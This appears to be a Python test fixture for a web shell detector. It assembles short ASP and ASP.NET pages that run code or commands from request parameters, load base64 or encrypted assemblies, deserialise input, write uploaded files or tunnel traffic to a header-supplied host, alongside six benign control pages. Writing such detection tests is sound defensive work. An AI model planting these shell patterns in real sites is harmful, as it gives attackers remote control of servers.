"""One inert page for each way from a visitor to what runs, in each language, and pages that do ordinary work.

They are put together from pieces when the tests run. ``alpha`` and ``beta`` are the names that rewrites change; every text that
can be split is in double quotes.
"""

from __future__ import annotations

from web_pages import ASM, EV, EX, PROC, REQ, WSH

CS, VB, JS = '<%@ Page Language="C#"%>', '<%@ Page Language="VB"%>', '<%@ Page Language="JScript"%>'
SERVER = "run" + 'at="server"'
SH, FSO, STREAM = "Shell.Appli" + "cation", "Scripting.FileSys" + "temObject", "ADODB.Str" + "eam"


def csharp(code: str) -> str:
    return f"{CS}\n<script {SERVER}>\nvoid Page_Load(object o, EventArgs e)\n{{\n{code}\n}}\n</script>"


def basic(code: str) -> str:
    return f"{VB}\n<script {SERVER}>\nSub Page_Load(o As Object, e As EventArgs)\n{code}\nEnd Sub\n</script>"


SHELLS: dict[str, tuple[str, str, str]] = {
    "vbs eval": ("asp", "runs-code", f'<%\nalpha = {REQ}("k")\n{EV} alpha\n%>'),
    "vbs execute": ("asp", "runs-code", f'<%\nalpha = {REQ}.Form("k")\n{EX} alpha\n%>'),
    "vbs global": ("asp", "runs-code", f'<%\nalpha = {REQ}.QueryString("k")\nbeta = alpha\n{EX}Global(beta)\n%>'),
    "vbs session": ("asp", "runs-code", f'<%\nSession("k") = {REQ}("k")\n{EX} Session("k")\n%>'),
    "vbs function": (
        "asp",
        "runs-code",
        f'<%\nFunction beta(alpha)\nbeta = Trim(alpha)\nEnd Function\n{EX} beta({REQ}("k"))\n%>',
    ),
    "vbs class": ("asp", "runs-code", f'<%\nClass beta\nSub Class_Initialize\n{EV}({REQ}("k"))\nEnd Sub\nEnd Class\n%>'),
    "vbs control": (
        "asp",
        "runs-code",
        f'<%\nSet alpha = CreateObject("ScriptCon" & "trol")\nalpha.Language = "vbscript"\nalpha.AddCode {REQ}("k")\n%>',
    ),
    "vbs run": (
        "asp",
        "runs-command",
        f'<%\nSet alpha = Server.CreateObject("{WSH}")\nbeta = {REQ}("k")\nalpha.Run beta, 0\n%>',
    ),
    "vbs exec": ("asp", "runs-command", f'<%=CreateObject("{WSH}").Exec("x /c " & {REQ}("k")).StdOut.ReadAll%>'),
    "vbs shell": (
        "asp",
        "runs-command",
        f'<%\nSet alpha = CreateObject("{SH}")\nalpha.ShellExecute {REQ}("k"), {REQ}("p")\n%>',
    ),
    "vbs write": (
        "asp",
        "writes-file",
        f'<%\nSet alpha = CreateObject("{FSO}")\nSet beta = alpha.CreateTextFile({REQ}("p"), True)\nbeta.Write {REQ}("k")\n%>',
    ),
    "vbs stream": (
        "asp",
        "writes-file",
        f'<%\nSet alpha = CreateObject("{STREAM}")\nalpha.Open\nalpha.Write {REQ}.BinaryRead(9)\nalpha.SaveToFile Server.MapPath("a.asp"), 2\n%>',
    ),
    "js eval": ("asp", "runs-code", f'<%@ Language="JScript"%>\n<%\nvar alpha = {REQ}("k") + "";\n{EV}(alpha);\n%>'),
    "js alias": (
        "asp",
        "runs-code",
        f'<%@ Language="JScript"%>\n<%\nvar alpha = {{"E": {EV}}};\nalpha.E({REQ}.Form("k") + "");\n%>',
    ),
    "js run": (
        "asp",
        "runs-command",
        f'<%@ Language="JScript"%>\n<%\nvar alpha = new ActiveXObject("{WSH}");\nalpha.Run({REQ}("k"));\n%>',
    ),
    "jsnet eval": ("aspx", "runs-code", f'{JS}\n<%\nvar alpha : String = {REQ}.Item["k"];\n{EV}(alpha, "un" + "safe");\n%>'),
    "cs start": ("aspx", "runs-command", csharp(f'string alpha = {REQ}["k"];\n{PROC}.Start("x", "/c " + alpha);')),
    "cs info": (
        "aspx",
        "runs-command",
        csharp(
            f'{PROC}StartInfo alpha = new {PROC}StartInfo();\nalpha.FileName = "x";\nalpha.Arguments = {REQ}.Form["k"];\n{PROC}.Start(alpha);'
        ),
    ),
    "cs header": (
        "aspx",
        "runs-command",
        csharp(f'var alpha = {REQ}.Headers["k"];\nvar beta = new {PROC}();\nbeta.StartInfo.FileName = alpha;\nbeta.Start();'),
    ),
    "cs load": (
        "aspx",
        "loads-program",
        csharp(f'byte[] alpha = Convert.FromBase64String({REQ}["k"]);\n{ASM}.Load(alpha).CreateInstance("U");'),
    ),
    "cs keyed": (
        "aspx",
        "loads-program",
        csharp(
            f"byte[] alpha = {REQ}.BinaryRead({REQ}.ContentLength);\nbyte[] beta = new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(alpha, 0, 9);\n"
            f"System.Reflection.{ASM}.Load(beta);"
        ),
    ),
    "cs compile": (
        "aspx",
        "loads-program",
        csharp(f'var alpha = new CSharpCodeProvider();\nalpha.CompileAssemblyFromSource(p, {REQ}["k"]);'),
    ),
    "cs method": (
        "aspx",
        "loads-program",
        csharp(f'typeof({ASM}).GetMethod("Load", new Type[0]).Invoke(null, new object[] {{ {REQ}.BinaryRead(9) }});'),
    ),
    "cs objects": ("aspx", "restores-objects", csharp(f'new LosFormatter().Deserialize({REQ}["k"]);')),
    "cs style": (
        "aspx",
        "restores-objects",
        csharp(f"var alpha = new XslCompiledTransform();\nalpha.Load({REQ}.InputStream, null, null);"),
    ),
    "cs write": ("aspx", "writes-file", csharp(f'var alpha = {REQ}["p"];\nFile.WriteAllText(alpha, {REQ}["k"]);')),
    "cs upload": ("aspx", "writes-file", f'{CS}\n<% {REQ}.Files[0].SaveAs(Server.MapPath({REQ}["p"])); %>'),
    "cs tunnel": (
        "aspx",
        "opens-tunnel",
        csharp(
            f'var alpha = new Socket(a, b, c);\nalpha.Connect(new IPEndPoint(IPAddress.Parse({REQ}.Headers["h"]), 80));\nalpha.Send({REQ}.BinaryRead(9));'
        ),
    ),
    "cs field": (
        "aspx",
        "runs-command",
        f'{CS}\n<script {SERVER}>\nvoid Go(object o, EventArgs e) {{ {PROC}.Start("x", alpha.Text); }}\n</script>\n<asp:TextBox id="alpha" runat="server"/>',
    ),
    "cs handler": (
        "ashx",
        "runs-command",
        f'<%@ WebHandler Language="C#" Class="H"%>\npublic class H : IHttpHandler {{ public void ProcessRequest(HttpContext beta) {{ '
        f'string alpha = beta.{REQ}["k"]; {PROC}.Start("x", alpha); }} }}',
    ),
    "cs service": (
        "asmx",
        "runs-command",
        f'<%@ WebService Language="C#" Class="S"%>\npublic class S {{ [WebMethod]\npublic void beta(string alpha) {{ {PROC}.Start("x", alpha); }} }}',
    ),
    "vb start": ("aspx", "runs-command", basic(f'Dim alpha As String = {REQ}("k")\n{PROC}.Start("x", "/c " & alpha)')),
    "vb shell": ("aspx", "runs-command", basic(f'Dim alpha As String = {REQ}.Form("k")\nShell(alpha)')),
    "vb new": (
        "aspx",
        "runs-command",
        basic(f'Dim alpha As New {PROC}StartInfo("x")\nalpha.Arguments = {REQ}("k")\n{PROC}.Start(alpha)'),
    ),
    "vb load": ("aspx", "loads-program", basic(f'Dim alpha = Convert.FromBase64String({REQ}("k"))\n{ASM}.Load(alpha)')),
    "vb write": ("aspx", "writes-file", basic(f'Dim alpha As New StreamWriter({REQ}("p"))\nalpha.Write({REQ}("k"))')),
}
"""Name → ending, what is to be found, page."""

ORDINARY: dict[str, tuple[str, str]] = {
    "search": (
        "asp",
        f'<%\nSet alpha = Server.CreateObject("ADODB.Connection")\nalpha.Open Application("db")\n'
        f'Set beta = alpha.Execute("select * from pages where id = " & CLng({REQ}("id")))\nResponse.Write Server.HTMLEncode(beta("title"))\n%>',
    ),
    "counter": (
        "asp",
        f'<%\nSet alpha = CreateObject("{FSO}")\nSet beta = alpha.OpenTextFile(Server.MapPath("count.txt"), 1)\nResponse.Write beta.ReadLine\n%>',
    ),
    "picture": (
        "aspx",
        csharp(
            f'if (!User.IsInRole("Editors")) return;\nvar alpha = {REQ}.Files["f"];\nvar beta = Path.GetFileName(alpha.FileName);\n'
            'if (!beta.EndsWith(".png")) return;\nalpha.SaveAs(Server.MapPath("~/pictures/") + beta);'
        ),
    ),
    "bound": (
        "aspx",
        f'{CS}\n<asp:Repeater runat="server"><ItemTemplate><%# Eval("Name") %> <%= Server.HtmlEncode({REQ}["q"]) %></ItemTemplate></asp:Repeater>',
    ),
    "redirect": (
        "aspx",
        basic(f'Dim alpha As String = {REQ}.QueryString("url")\nIf alpha.StartsWith("/") Then Response.Redirect(alpha)'),
    ),
    "report": (
        "ashx",
        '<%@ WebHandler Language="C#" Class="H"%>\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.WriteFile("report.pdf"); } }',
    ),
}
"""Name → ending and page: nothing is to be found in them."""
